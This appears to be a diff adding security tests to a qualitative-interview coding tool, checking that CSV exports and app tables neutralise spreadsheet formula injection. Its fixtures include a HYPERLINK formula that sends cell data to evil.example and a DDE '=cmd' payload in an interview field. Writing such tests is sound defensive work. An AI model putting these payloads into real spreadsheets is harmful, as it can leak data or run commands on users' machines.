@@ -138,3 +138,173 @@ def test_upload_refuses_a_symlinked_interviews_folder(tmp_path: Path) -> None:
     assert list(elsewhere.iterdir()) == []
     assert project.store.codings_frame(LOCAL_ADMIN).empty
     project.close()
+
+
+# ------------------------------------------------------------------------------ f. formula injection
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+HOSTILE_CODEBOOK = f"""\
+title: Hostile labels
+themes:
+  - id: evil_theme
+    label: '{EVIL.replace("'", "''")}'
+    codes:
+      - id: evil_code
+        label: '@SUM(1+1)'
+      - id: plain
+        label: Plain code
+"""
+HOSTILE_INTERVIEW = f"""\
+---
+participant: A
+label: '-Expert (A)'
++region: '=cmd|"/C calc"!A0'
+---
+{EVIL} is what the participant typed. Then a plain sentence follows here.
+"""
+HOSTILE_INTERVIEW_B = """\
+---
+participant: B
+label: Expert (B)
++region: north
+---
++Another sentence. And a plain one.
+"""
+RISKY = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _formula(value: object) -> bool:
+    """Text a spreadsheet would run (a negative number in a CSV is just a number)."""
+    if not isinstance(value, str) or not value.startswith(RISKY):
+        return False
+    try:
+        float(value)
+    except ValueError:
+        return True
+    return False
+
+
+def _hostile_project(root: Path) -> Project:
+    project = Project.init(root)
+    (root / "codebook.yaml").write_text(HOSTILE_CODEBOOK, encoding="utf-8")
+    (root / "interviews" / "expert_A.md").write_text(HOSTILE_INTERVIEW, encoding="utf-8")
+    (root / "interviews" / "expert_B.md").write_text(HOSTILE_INTERVIEW_B, encoding="utf-8")
+    project.sync()
+    from qualcode.store import Actor
+
+    text_a = project.store.document_text("expert_A")
+    text_b = project.store.document_text("expert_B")
+    end = text_a.index(" is what")
+    for who in ("alice", "@mallory"):
+        user = project.as_user(Actor(who, "annotator", local=True))
+        user.add_coding("expert_A", 0, end, "evil_code", memo="-2+3 says the memo")
+        user.add_coding("expert_B", 0, text_b.index(" And"), "plain", memo="=1+1")
+    project.as_user(Actor("alice", "annotator", local=True)).add_coding("expert_A", 0, end, "plain")
+    return project
+
+
+def _unsafe_strings(frame) -> list[str]:  # type: ignore[no-untyped-def]
+    """Every header, row label and text cell of ``frame`` a spreadsheet would run as a formula."""
+    import pandas as pd
+
+    values: list[object] = list(frame.columns) + list(frame.index)
+    if isinstance(frame.columns, pd.MultiIndex):
+        values = [v for tup in frame.columns for v in tup] + list(frame.index)
+    for col in range(frame.shape[1]):
+        values += frame.iloc[:, col].tolist()
+    return [v for v in values if _formula(v)]
+
+
+def test_cli_csv_headers_and_cells_are_neutralised(tmp_path: Path) -> None:
+    import csv
+    import io
+
+    root = tmp_path / "proj"
+    _hostile_project(root).close()
+    checked = 0
+    for args in (
+        ["report", "matrix", "--by", "theme"],
+        ["report", "matrix", "--by", "code"],
+        ["report", "experts", "--attribute", "+region"],
+        ["report", "themes"],
+        ["report", "quotes"],
+        ["report", "agreement"],
+    ):
+        res = qualcode("--project", str(root), *args, "--format", "csv")
+        assert res.returncode == 0, (args, res.stderr)
+        rows = list(csv.reader(io.StringIO(res.stdout)))
+        assert rows, args
+        bad = [cell for row in rows for cell in row if _formula(cell)]
+        assert not bad, (args, bad)
+        checked += sum(cell.startswith("'") for row in rows for cell in row)
+    assert checked >= 4  # the hostile labels, attribute and quotes were there, neutralised
+
+
+def test_every_table_and_csv_download_in_the_app_is_neutralised(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Supervisor on every page: each st.dataframe/st.data_editor (whose built-in "Download as CSV"
+    exports exactly what it shows) and each CSV download button holds no formula."""
+    import streamlit.testing.v1.app_test as app_test_module
+    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+    from streamlit.testing.v1 import AppTest
+
+    downloads: list[bytes] = []
+
+    class Recording(MemoryMediaFileStorage):
+        def load_and_get_id(self, path_or_data, mimetype, kind, filename=None):  # type: ignore[no-untyped-def]
+            if mimetype == "text/csv" and isinstance(path_or_data, (bytes, str)):
+                downloads.append(path_or_data.encode() if isinstance(path_or_data, str) else path_or_data)
+            return super().load_and_get_id(path_or_data, mimetype, kind, filename)
+
+    monkeypatch.setattr(app_test_module, "MemoryMediaFileStorage", Recording)
+    root = tmp_path / "proj"
+    _hostile_project(root).close()
+    monkeypatch.setenv("QUALCODE_PROJECT", str(root))
+    monkeypatch.delenv("QUALCODE_DATABASE_URL", raising=False)
+    script = str(Path(__file__).resolve().parents[1] / "streamlit_app.py")
+    neutralised = 0
+    tables = 0
+    for page in ("code", "codebook", "browser", "reports", "agreement", "adjudicate", "interviews", "admin"):
+        at = AppTest.from_file(script, default_timeout=120)
+        at.session_state["qc_start_page"] = page
+        at.session_state["qc_local_name"] = "alice"
+        at.session_state["qc_local_role"] = "admin"
+        at.run()
+        assert not at.exception, (page, [e.value for e in at.exception])
+        if page == "agreement":
+            coders = at.multiselect(key="qc_agr_coders")
+            coders.set_value(["alice", "@mallory"]).run()
+        if page == "adjudicate":
+            at.multiselect(key="qc_adj_coders").set_value(["alice", "@mallory"]).run()
+        for element in at.dataframe:
+            tables += 1
+            frame = element.value
+            assert not _unsafe_strings(frame), (page, _unsafe_strings(frame))
+            neutralised += sum(
+                isinstance(v, str) and v.startswith("'")
+                for col in range(frame.shape[1])
+                for v in [*frame.iloc[:, col].tolist(), frame.columns[col]]
+            )
+    assert tables >= 8 and neutralised >= 5
+    import csv
+    import io
+
+    assert len(downloads) >= 5  # themes, codes, consensus, heatmap matrix, quotes, agreement
+    for blob in downloads:
+        rows = list(csv.reader(io.StringIO(blob.decode("utf-8"))))
+        bad = [cell for row in rows for cell in row if _formula(cell)]
+        assert not bad, bad
+
+
+def test_no_page_shows_a_table_around_the_neutralising_helper() -> None:
+    import re
+
+    app_dir = Path(__file__).resolve().parents[1] / "qualcode" / "app"
+    offenders = []
+    for path in app_dir.rglob("*.py"):
+        if path.name == "tables.py":
+            continue
+        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
+            if re.search(r"\bst\.(dataframe|data_editor|table)\(", line):
+                offenders.append(f"{path.relative_to(app_dir)}:{n}")
+    assert not offenders, f"use qualcode.app.components.tables instead: {offenders}"
